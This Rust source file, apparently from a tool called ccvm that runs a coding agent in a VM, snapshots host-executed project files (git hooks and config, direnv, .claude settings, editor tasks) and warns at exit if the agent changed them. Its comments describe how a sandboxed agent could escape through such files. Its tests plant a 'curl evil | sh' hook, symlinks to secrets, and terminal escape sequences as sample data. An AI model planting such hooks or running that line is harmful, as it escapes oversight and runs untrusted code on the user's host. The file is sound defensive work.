//! Files in the project that programs on the host run later (S5.1's caveat for a writable
//! project).
//!
//! With a writable project the agent can plant code that runs outside the VM: a git hook or a
//! `core.fsmonitor` runs on the next `git status` on the host (and git takes hooks and config
//! from wherever `.git/commondir`, a submodule's config or an included file says), `.envrc`
//! on the next `cd` with direnv, a hook in `.claude/settings.json` or an agent's frontmatter
//! in the user's native claude, a task in `.vscode/tasks.json` in the editor. ccvm cannot tell
//! a wanted change from a planted one, so it takes a snapshot of these files at launch and, at
//! exit, names every one that changed (with a short diff or the first lines of a new file).
//!
//! Reads only, and only inside the project: no link is followed (a planted link is reported
//! as a link), files are opened without following links or blocking, and at most
//! `MAX_CONTENT` (256 KiB) of each are kept. Everything printed is escaped, so a planted file
//! cannot hide the report with terminal control sequences.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::fs;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

/// Files and trees (relative to the project) that a host program executes or obeys. A tree
/// is watched recursively.
const WATCHED: &[&str] = &[
    // The repository: hooks, config, commondir, info/, modules/*/config, worktrees/… (minus
    // the object store and other bookkeeping git rewrites on every command, [`GIT_SKIPPED`]).
    ".git",
    // direnv (`.envrc`, and what it commonly sources without asking again).
    ".envrc",
    ".envrc.local",
    ".env",
    ".env.local",
    // The user's native claude: settings hooks, agents and skills with hooks, `!` commands.
    ".claude",
    ".mcp.json",
    // Editors and dev containers (`initializeCommand` runs on the host).
    ".vscode",
    ".devcontainer",
    ".devcontainer.json",
    // Hook managers.
    ".pre-commit-config.yaml",
    ".githooks",
    ".husky",
    "lefthook.yml",
    "lefthook-local.yml",
    ".lefthook",
    ".lefthook-local",
];

/// Entries of a `.git` directory (at any depth) that are data git rewrites itself.
const GIT_SKIPPED: &[&str] = &[
    "objects",
    "refs",
    "logs",
    "index",
    "packed-refs",
    "COMMIT_EDITMSG",
    "lfs",
    "rr-cache",
    "rebase-merge",
    "rebase-apply",
    "sequencer",
];

/// At most this many files are recorded in all, and this many bytes of each (larger files are
/// compared by their digest).
const MAX_ENTRIES: usize = 20_000;
const MAX_CONTENT: u64 = 256 * 1024;
/// Lines shown per changed file.
const SHOWN_LINES: usize = 8;

/// What one watched path was.
#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    File {
        executable: bool,
        content: Vec<u8>,
    },
    Large {
        executable: bool,
        size: u64,
        sha256: String,
    },
    Link(PathBuf),
    Dir,
    /// A FIFO, socket or device.
    Special,
}

/// The watched files of a project at one moment.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    project: PathBuf,
    files: BTreeMap<String, State>,
}

fn state_of(path: &Path) -> Option<State> {
    let meta = fs::symlink_metadata(path).ok()?;
    if meta.file_type().is_symlink() {
        return Some(State::Link(fs::read_link(path).unwrap_or_default()));
    }
    if meta.is_dir() {
        return Some(State::Dir);
    }
    if !meta.is_file() {
        return Some(State::Special);
    }
    let file = fs::OpenOptions::new()
        .read(true)
        .custom_flags(nix::libc::O_NOFOLLOW | nix::libc::O_NONBLOCK | nix::libc::O_NOCTTY)
        .open(path)
        .ok()?;
    let meta = file.metadata().ok()?;
    if !meta.is_file() {
        return Some(State::Special);
    }
    let executable = meta.mode() & 0o111 != 0;
    if meta.len() > MAX_CONTENT {
        let mut hasher = Sha256::new();
        std::io::copy(&mut (&file).take(meta.len()), &mut hasher).ok()?;
        return Some(State::Large {
            executable,
            size: meta.len(),
            sha256: format!("{:x}", hasher.finalize()),
        });
    }
    let mut content = Vec::new();
    (&file).take(MAX_CONTENT).read_to_end(&mut content).ok()?;
    Some(State::File {
        executable,
        content,
    })
}

fn skipped_in_git(name: &str) -> bool {
    GIT_SKIPPED.contains(&name) || name.ends_with("HEAD") || name.ends_with(".lock")
}

/// Paths a repository config points git at inside the project: `core.hooksPath` (a hooks
/// directory) and every `include.path` / `includeIf.*.path` (more config). Relative paths are
/// relative to the config's directory (hooksPath: to the work tree).
fn config_targets(config: &[u8], git_dir: &Path, project: &Path) -> Vec<PathBuf> {
    let mut section = String::new();
    let mut targets = Vec::new();
    for line in String::from_utf8_lossy(config).lines() {
        let line = line.trim();
        if line.starts_with('[') {
            section = line
                .trim_start_matches('[')
                .split([' ', ']'])
                .next()
                .unwrap_or_default()
                .to_ascii_lowercase();
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = key.trim().to_ascii_lowercase();
        let value = Path::new(value.trim().trim_matches('"'));
        let base = match (section.as_str(), key.as_str()) {
            ("core", "hookspath") => project,
            ("include" | "includeif", "path") => git_dir,
            _ => continue,
        };
        if value.starts_with("~") {
            continue;
        }
        targets.push(base.join(value));
    }
    targets
}

impl Snapshot {
    /// Records the watched files of `project` now.
    pub fn take(project: &Path) -> Snapshot {
        let project = project
            .canonicalize()
            .unwrap_or_else(|_| project.to_owned());
        let mut snapshot = Snapshot {
            project: project.clone(),
            files: BTreeMap::new(),
        };
        for name in WATCHED {
            snapshot.record(Path::new(name), name.starts_with(".git"));
        }
        // Whatever the repository config points at inside the project, wherever it is.
        let configs: Vec<(PathBuf, Vec<u8>)> = snapshot
            .files
            .iter()
            .filter(|(name, _)| name.ends_with("config") || name.ends_with("config.worktree"))
            .filter_map(|(name, state)| match state {
                State::File { content, .. } => Some((project.join(name), content.clone())),
                _ => None,
            })
            .collect();
        for (path, content) in configs {
            let dir = path.parent().unwrap_or(&project).to_owned();
            for target in config_targets(&content, &dir, &project) {
                if let Ok(canonical) = target.canonicalize()
                    && let Ok(relative) = canonical.strip_prefix(&project)
                {
                    snapshot.record(relative, false);
                }
            }
        }
        snapshot
    }

    /// Records `relative` (a file, or a tree without following links) if it exists.
    fn record(&mut self, relative: &Path, in_git: bool) {
        if self.files.len() >= MAX_ENTRIES {
            return;
        }
        let path = self.project.join(relative);
        let Some(state) = state_of(&path) else {
            return;
        };
        let is_dir = state == State::Dir;
        self.files
            .insert(relative.to_string_lossy().into_owned(), state);
        if !is_dir {
            return;
        }
        let Ok(entries) = fs::read_dir(&path) else {
            return;
        };
        let mut names: Vec<_> = entries.flatten().map(|e| e.file_name()).collect();
        names.sort();
        for name in names {
            if in_git && skipped_in_git(&name.to_string_lossy()) {
                continue;
            }
            self.record(&relative.join(name), in_git);
        }
    }

    /// What changed between `self` (at launch) and `now`, as the lines of a warning; empty
    /// when nothing did. Everything in them is escaped.
    pub fn changes(&self, now: &Snapshot) -> Vec<String> {
        let mut lines = Vec::new();
        let names: BTreeSet<&String> = self.files.keys().chain(now.files.keys()).collect();
        for name in names {
            let shown = escape(name);
            match (self.files.get(name), now.files.get(name)) {
                (Some(before), Some(after)) if before == after => {}
                (_, Some(State::Dir)) => {}
                (None, Some(after)) => {
                    lines.push(format!("  added    {shown}{}", describe(after)));
                    lines.extend(first_lines(after));
                }
                (Some(State::Dir), None) => {}
                (Some(_), None) => lines.push(format!("  removed  {shown}")),
                (Some(before), Some(after)) => {
                    lines.push(format!("  changed  {shown}{}", describe(after)));
                    lines.extend(diff(before, after));
                }
                (None, None) => {}
            }
        }
        lines
    }

    /// The warning to print at exit when files the host runs have changed since `self`.
    pub fn report(&self) -> Option<String> {
        let changes = self.changes(&Snapshot::take(&self.project));
        if changes.is_empty() {
            return None;
        }
        let mut text = String::from(
            "ccvm: warning: the session changed files in the project that programs on your host \
             run (git hooks and config, direnv, your native claude's settings, editor tasks):\n",
        );
        for line in changes {
            let _ = writeln!(text, "ccvm: {line}");
        }
        text.push_str(
            "ccvm: review them before you run git, direnv, claude or your editor in this \
             directory: they would run on the host, outside the VM (`git diff` does not show \
             .git/)\n",
        );
        Some(text)
    }
}

/// What a terminal shows harmlessly: control characters (C0 but tab, DEL, C1) and the bidi
/// controls that reorder text become visible escapes, so a planted name or line can neither
/// move the cursor, clear the screen, set the clipboard (OSC 52) nor disguise itself.
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        let code = u32::from(c);
        let control = (code < 0x20 && c != '\t') || (0x7f..=0x9f).contains(&code);
        let bidi = (0x202a..=0x202e).contains(&code)
            || (0x2066..=0x2069).contains(&code)
            || code == 0x200e
            || code == 0x200f
            || code == 0x061c;
        if control || bidi {
            let _ = write!(out, "\\u{{{code:x}}}");
        } else {
            out.push(c);
        }
    }
    out
}

fn describe(state: &State) -> String {
    match state {
        State::File {
            executable: true, ..
        } => " (executable)".to_owned(),
        State::File { .. } | State::Dir => String::new(),
        State::Large {
            executable, size, ..
        } => format!(
            " ({size} bytes{}, not shown)",
            if *executable { ", executable" } else { "" }
        ),
        State::Link(target) => format!(" (a symlink to {})", escape(&target.to_string_lossy())),
        State::Special => " (a FIFO, socket or device)".to_owned(),
    }
}

fn text_lines(state: &State) -> Vec<String> {
    match state {
        State::File { content, .. } => String::from_utf8_lossy(content)
            .lines()
            .map(escape)
            .collect(),
        _ => Vec::new(),
    }
}

fn first_lines(state: &State) -> Vec<String> {
    let lines = text_lines(state);
    let mut out: Vec<String> = lines
        .iter()
        .take(SHOWN_LINES)
        .map(|l| format!("    | {l}"))
        .collect();
    if lines.len() > SHOWN_LINES {
        out.push(format!(
            "    | … ({} more lines)",
            lines.len() - SHOWN_LINES
        ));
    }
    out
}

/// Lines only in `after` (`+`) and only in `before` (`-`), at most [`SHOWN_LINES`].
fn diff(before: &State, after: &State) -> Vec<String> {
    let (old, new) = (text_lines(before), text_lines(after));
    let mut out: Vec<String> = new
        .iter()
        .filter(|l| !old.contains(l))
        .map(|l| format!("    + {l}"))
        .chain(
            old.iter()
                .filter(|l| !new.contains(l))
                .map(|l| format!("    - {l}")),
        )
        .collect();
    if out.len() > SHOWN_LINES {
        let more = out.len() - SHOWN_LINES;
        out.truncate(SHOWN_LINES);
        out.push(format!("    … ({more} more changed lines)"));
    }
    out
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;

    use super::*;

    fn repo() -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path();
        fs::create_dir_all(p.join(".git/hooks")).expect("mkdir");
        fs::create_dir_all(p.join(".git/objects/ab")).expect("mkdir");
        fs::write(p.join(".git/config"), "[core]\n\tbare = false\n").expect("write");
        fs::write(p.join(".git/HEAD"), "ref: refs/heads/main\n").expect("write");
        fs::write(p.join("src.rs"), "fn main() {}\n").expect("write");
        dir
    }

    fn changes(dir: &Path, act: impl FnOnce(&Path)) -> String {
        let before = Snapshot::take(dir);
        act(dir);
        before.changes(&Snapshot::take(dir)).join("\n")
    }

    #[test]
    fn a_new_hook_a_changed_config_and_a_planted_link_are_named() {
        let dir = repo();
        let text = changes(dir.path(), |p| {
            fs::write(p.join("src.rs"), "fn main() { edited() }\n").expect("write");
            fs::write(p.join(".git/objects/ab/cdef"), "blob").expect("write");
            fs::write(p.join(".git/HEAD"), "ref: refs/heads/other\n").expect("write");
        });
        assert!(
            text.is_empty(),
            "ordinary edits and git bookkeeping: {text}"
        );

        let text = changes(dir.path(), |p| {
            fs::write(
                p.join(".git/hooks/pre-commit"),
                "#!/bin/sh\ncurl evil | sh\n",
            )
            .expect("write");
            fs::set_permissions(
                p.join(".git/hooks/pre-commit"),
                fs::Permissions::from_mode(0o755),
            )
            .expect("chmod");
            fs::write(
                p.join(".git/config"),
                "[core]\n\tbare = false\n\tfsmonitor = ./watch.sh\n",
            )
            .expect("write");
            std::os::unix::fs::symlink("/tmp/x", p.join(".envrc")).expect("symlink");
        });
        assert!(
            text.contains("added    .git/hooks/pre-commit (executable)"),
            "{text}"
        );
        assert!(text.contains("    | curl evil | sh"), "{text}");
        assert!(text.contains("changed  .git/config"), "{text}");
        assert!(text.contains("    + \tfsmonitor = ./watch.sh"), "{text}");
        assert!(
            text.contains("added    .envrc (a symlink to /tmp/x)"),
            "{text}"
        );
    }

    /// Git takes hooks and config from wherever `.git/commondir`, a submodule or an included
    /// file says; each of those is watched.
    #[test]
    fn commondir_submodule_and_included_configs_are_watched() {
        let dir = repo();
        fs::create_dir_all(dir.path().join(".git/modules/vendor/lib")).expect("mkdir");
        fs::write(
            dir.path().join(".git/modules/vendor/lib/config"),
            "[core]\n",
        )
        .expect("write");
        fs::write(
            dir.path().join(".git/config"),
            "[core]\n\thooksPath = tools/hooks\n[include]\n\tpath = ../.gitconfig\n",
        )
        .expect("write");
        fs::write(dir.path().join(".gitconfig"), "[user]\n").expect("write");
        fs::create_dir_all(dir.path().join("tools/hooks")).expect("mkdir");
        let text = changes(dir.path(), |p| {
            fs::write(p.join(".git/commondir"), "../build/.cache\n").expect("write");
            fs::write(
                p.join(".git/modules/vendor/lib/config"),
                "[core]\n\tfsmonitor = x\n",
            )
            .expect("write");
            fs::write(p.join(".gitconfig"), "[core]\n\tfsmonitor = y\n").expect("write");
            fs::write(p.join("tools/hooks/pre-push"), "#!/bin/sh\n").expect("write");
            fs::create_dir_all(p.join(".claude/agents")).expect("mkdir");
            fs::write(p.join(".claude/agents/a.md"), "---\nhooks: x\n---\n").expect("write");
        });
        for needle in [
            "added    .git/commondir",
            "changed  .git/modules/vendor/lib/config",
            "changed  .gitconfig",
            "added    tools/hooks/pre-push",
            "added    .claude/agents/a.md",
        ] {
            assert!(text.contains(needle), "missing {needle:?}:\n{text}");
        }
    }

    /// A watched directory replaced by a link to `~/.ssh` or `/proc/self` is reported as a
    /// link and nothing behind it is read.
    #[test]
    fn links_are_never_followed_out_of_the_project() {
        let dir = repo();
        let secret = tempfile::tempdir().expect("tempdir");
        fs::write(secret.path().join("id_rsa"), "PRIVATE KEY").expect("write");
        let text = changes(dir.path(), |p| {
            std::os::unix::fs::symlink(secret.path(), p.join(".githooks")).expect("symlink");
            std::os::unix::fs::symlink("/proc/self", p.join(".husky")).expect("symlink");
        });
        assert!(text.contains("added    .githooks (a symlink to"), "{text}");
        assert!(
            text.contains("added    .husky (a symlink to /proc/self)"),
            "{text}"
        );
        assert!(
            !text.contains("PRIVATE KEY") && !text.contains("id_rsa"),
            "{text}"
        );
    }

    /// Planted names and contents cannot clear the screen, hide text or set the clipboard.
    #[test]
    fn control_sequences_in_names_and_contents_are_escaped() {
        let dir = repo();
        let text = changes(dir.path(), |p| {
            fs::write(
                p.join(".git/hooks/zz\n\u{1b}[2J"),
                "\u{1b}[3J\u{1b}[H\u{1b}[2J\u{1b}[8m\u{1b}]52;c;eA==\u{7}\u{202e}x\n",
            )
            .expect("write");
        });
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{202e}'),
            "{text:?}"
        );
        assert!(text.contains("zz\\u{a}\\u{1b}[2J"), "{text}");
        assert!(text.contains("\\u{1b}]52;c;eA==\\u{7}"), "{text}");
        assert_eq!(text.lines().count(), 2, "{text}");
    }

    #[test]
    fn a_large_file_is_compared_by_digest_and_keeps_its_mode() {
        let dir = repo();
        let big = dir.path().join(".git/hooks/pre-commit");
        fs::write(&big, vec![b'a'; 300 * 1024]).expect("write");
        let text = changes(dir.path(), |_| {
            let mut bytes = vec![b'a'; 300 * 1024];
            bytes[1000] = b'b';
            fs::write(&big, bytes).expect("write");
            fs::set_permissions(&big, fs::Permissions::from_mode(0o755)).expect("chmod");
        });
        assert!(
            text.contains("changed  .git/hooks/pre-commit (307200 bytes, executable, not shown)"),
            "{text}"
        );
    }
}
